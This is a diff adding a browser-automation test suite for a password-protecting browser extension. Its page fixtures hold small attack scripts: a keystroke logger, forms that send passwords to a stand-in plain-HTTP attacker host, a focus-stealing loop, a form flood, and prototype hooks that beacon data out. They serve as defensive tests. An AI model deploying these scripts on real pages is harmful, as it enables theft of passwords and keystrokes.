@@ -1,0 +1,216 @@
+import type { Page } from 'puppeteer';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Question } from '../cafe/pages/index.ts';
+import { pause, type TestBrowser, waitFor } from './harness/index.ts';
+import { click, leave, openPopup, readingOf, readPopup, sitDown, untilShown } from './harness/person.ts';
+import { BROWSER_NAMES, sitAtTable } from './harness/setup.ts';
+
+const SUFFIX = '.attack.example';
+const PLAIN = `http://plain${SUFFIX}`;
+const SAFE = `https://safe${SUFFIX}`;
+const WORD = 'c0rrect';
+/** An address of this very network: nothing is stopped there. */
+const ROUTER = 'http://10.0.0.138';
+
+const EARS = `<script>window.heard = []; for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input']) {
+  addEventListener(type, (event) => heard.push(type + ' ' + (event.key ?? event.data)), true); }</script>`;
+
+const PAGES: Readonly<Record<string, string>> = {
+  becomes: `${EARS}<form action="/in" method="post"><input name="user"><input id="p" name="pwd" oninput="this.type='password'"></form>`,
+  steals: `<form action="http://plain${SUFFIX}/in" method="post"><input type="password" id="p"></form><script>
+    setInterval(() => { document.querySelector('#p').blur(); document.querySelector('#p').focus(); }, 100);</script>`,
+  flood: `<script>window.flood = () => { for (let number = 0; number < 250; number += 1) {
+      const form = document.createElement('form'); form.action = 'http://made-up-' + number + '.example/';
+      form.innerHTML = '<input name=a value=b>'; document.body.append(form); new FormData(form); form.remove(); } };</script>
+    <form action="/in" method="post"><input id="a" name="a"><button id="go">Go</button></form>`,
+  outside: `<form id="f" action="/in" method="post"><input type="password" id="p" name="p"><button>Safe</button></form>
+    <button form="f" id="second" formaction="http://plain${SUFFIX}/in">Other</button>`,
+  honest: `<form id="f" action="/in" method="post"><input type="password" id="p" name="p"><button>Safe</button></form>
+    <button form="f" id="second" formaction="/other">Other</button>`,
+  late: `<p>Words.</p><script>window.ask = () => { document.body.insertAdjacentHTML('beforeend',
+    '<form action="/in" method="post"><input type="password" id="p"></form>'); };</script>`,
+  keys: `${EARS}<form action="/in" method="post"><input type="password" id="p" name="p"><input id="a" name="a"></form>`,
+  stores: `<script>window.called = [];
+    for (const name of ['estimate', 'getDirectory', 'persist']) {
+      const own = StorageManager.prototype[name];
+      StorageManager.prototype[name] = function () { called.push(name); return own.call(this); };
+    }
+    for (const name of ['keys', 'delete']) {
+      const own = CacheStorage.prototype[name];
+      CacheStorage.prototype[name] = function (...input) { called.push(name); return own.apply(this, input); };
+    }
+    window.fill = async () => { await (await caches.open('mine')).put('/x', new Response('y')); };
+    setInterval(() => { if (called.length) navigator.sendBeacon('/called', called.splice(0).join()); }, 5);</script>`,
+};
+
+function answer({ path, method }: Question) {
+  if (method === 'POST') return { body: '<title>Thanks</title>' };
+  const name = path.slice(1).split('?')[0] ?? '';
+  return { body: `<!doctype html><title>${name}</title><body>${PAGES[name] ?? ''}` };
+}
+
+const valueIn = (page: Page, selector: string) =>
+  page.$eval(selector, (field) => (field as HTMLInputElement).value);
+const heardBy = (page: Page) =>
+  page.evaluate(() => (window as unknown as { heard: readonly string[] }).heard);
+
+describe.each(BROWSER_NAMES)('a page that attacks, in %s', (name) => {
+  const table = sitAtTable(name, {
+    guests: {
+      suffix: SUFFIX,
+      hosts: ['10.0.0.138'],
+      httpOnly: [`plain${SUFFIX}`, '10.0.0.138'],
+      answer,
+    },
+    keepsPage: true,
+  });
+  let browser: TestBrowser;
+
+  /** Not by asking each page: a call of the driver counts as a person there. */
+  const stopPages = () =>
+    browser.inExtension(async (api) => {
+      const urls = (await api.tabs.query({})).map(({ url = '' }) => url);
+      return urls.filter((url) => url.includes('stop.html'));
+    });
+
+  beforeAll(async () => {
+    browser = table.browser;
+    await sitDown(browser);
+    // Opens the page that it asks in, so that this does not come in between later.
+    await stopPages();
+  });
+
+  async function goBack(): Promise<string | undefined> {
+    const stop = await browser.findPage(`${browser.backend.extensionUrl}stop.html`, 8000);
+    await untilShown(stop, '[data-stop]');
+    const code = await stop.evaluate(() => document.querySelector<HTMLElement>('[data-stop]')?.dataset.stop);
+    await click(stop, '[data-action="back"]');
+    await waitFor('the stop page to go', async () => (await stopPages()).length === 0);
+    return code;
+  }
+
+  async function openInFront(url: string): Promise<Page> {
+    const page = await browser.openPage(url);
+    await page.bringToFront();
+    return page;
+  }
+
+  it('hears no key of a password on a page without protection, and every other key', async () => {
+    const page = await openInFront(`${PLAIN}/keys`);
+    await page.click('#p');
+    await page.keyboard.type(WORD);
+    expect(await goBack()).toBe('insecure-password-field');
+    expect([await heardBy(page), await valueIn(page, '#p')]).toEqual([[], '']);
+    await page.bringToFront();
+    await page.click('#a');
+    await page.keyboard.type('b');
+    expect(await heardBy(page)).toEqual(['keydown b', 'keypress b', 'beforeinput b', 'input b', 'keyup b']);
+    await page.close();
+  });
+
+  it('stops as soon as a field becomes one for a password, and takes nothing away', async () => {
+    const page = await openInFront(`${PLAIN}/becomes`);
+    await page.click('#p');
+    await page.keyboard.press(WORD[0] as 'c');
+    expect(await goBack()).toBe('insecure-password-field');
+    expect(await valueIn(page, '#p')).toBe(WORD[0]);
+    await page.close();
+  });
+
+  it('lets such a field be where nothing is to be stopped, without losing a key', async () => {
+    const page = await openInFront(`${ROUTER}/becomes`);
+    await page.click('#p');
+    await page.keyboard.type(WORD);
+    await waitFor('all of the word', async () => (await valueIn(page, '#p')) === WORD);
+    expect(await stopPages()).toEqual([]);
+    await page.close();
+  });
+
+  it('brings no stop page up by moving the focus, in front or behind', async () => {
+    const page = await browser.backend.browser.newPage();
+    await page.goto(`${SAFE}/steals`);
+    await page.bringToFront();
+    await pause(1500);
+    expect(await stopPages()).toEqual([]);
+    const front = await openInFront(`${SAFE}/honest`);
+    await pause(1500);
+    expect(await stopPages()).toEqual([]);
+    await front.close();
+    await page.bringToFront();
+    // A person's key does, and after the way back the focus alone does not.
+    await page.keyboard.press('a');
+    await goBack();
+    await pause(1500);
+    expect(await stopPages()).toEqual([]);
+    await page.close();
+  });
+
+  it('puts no names of its own on the list of who saw what, only what was sent', async () => {
+    const page = await openInFront(`${PLAIN}/flood`);
+    await page.evaluate(() => (window as unknown as { flood(): void }).flood());
+    await page.type('#a', 'words');
+    await page.click('#go');
+    const leaving = await browser.extensionPage('leave.html');
+    await untilShown(leaving, `[data-in-clear="plain${SUFFIX}"]`);
+    const hosts = await leaving.evaluate(() =>
+      [...document.querySelectorAll<HTMLElement>('[data-in-clear]')].map(({ dataset }) => dataset.inClear),
+    );
+    expect(hosts.filter((host) => host?.startsWith('made-up'))).toEqual([]);
+    await leaving.close();
+    await page.close();
+  });
+
+  it('is told of when a button outside its form sends a password elsewhere', async () => {
+    const page = await openInFront(`${SAFE}/outside`);
+    const reading = await readingOf(browser, `${SAFE}/outside`, ({ level }) => level === 'L3');
+    expect(reading.findings.map(({ code }) => code)).toContain('insecure-form-target');
+    await page.bringToFront();
+    await page.type('#p', WORD);
+    await page.click('#second');
+    expect(await goBack()).toBe('insecure-form-target');
+    const honest = await openInFront(`${SAFE}/honest`);
+    expect((await readingOf(browser, `${SAFE}/honest`)).findings).toEqual([]);
+    await honest.close();
+    await page.close();
+  });
+
+  it('cannot ask for a password late without the popup saying so', async () => {
+    const page = await openInFront(`${PLAIN}/late`);
+    const tabId = await browser.tabIdOf(`${PLAIN}/late`);
+    const icon = () => browser.inExtension((api, id) => api.action.getTitle({ tabId: id }), tabId);
+    const before = await icon();
+    await page.evaluate(() => (window as unknown as { ask(): void }).ask());
+    await waitFor('the toolbar to follow', async () => (await icon()) !== before);
+    const popup = await openPopup(browser, tabId);
+    await waitFor('the warning', async () => (await readPopup(popup)).level === 'L3');
+    await popup.close();
+    await page.close();
+  });
+
+  it('gets no key while nobody answers, and all of them on a protected page', async () => {
+    const page = await openInFront(`${PLAIN}/keys`);
+    const safe = await openInFront(`${SAFE}/keys`);
+    await browser.backend.killBackground();
+    await safe.click('#p');
+    await safe.keyboard.type(WORD);
+    expect(await valueIn(safe, '#p')).toBe(WORD);
+    await safe.close();
+    await page.bringToFront();
+    await browser.backend.killBackground();
+    await page.click('#p');
+    await page.keyboard.type(WORD);
+    expect([await heardBy(page), await valueIn(page, '#p')]).toEqual([[], '']);
+    await goBack();
+    await page.close();
+  });
+
+  it('learns of no tidy by functions that it replaced', async () => {
+    const page = await openInFront(`${SAFE}/stores`);
+    await page.evaluate(() => (window as unknown as { fill(): Promise<void> }).fill());
+    await leave(browser);
+    expect(browser.cafe.requests.filter(({ path }) => path.startsWith('/called'))).toEqual([]);
+    const again = await browser.openPage(`${SAFE}/honest`);
+    expect(await again.evaluate(async () => await caches.keys())).toEqual([]);
+    await again.close();
+  });
+});
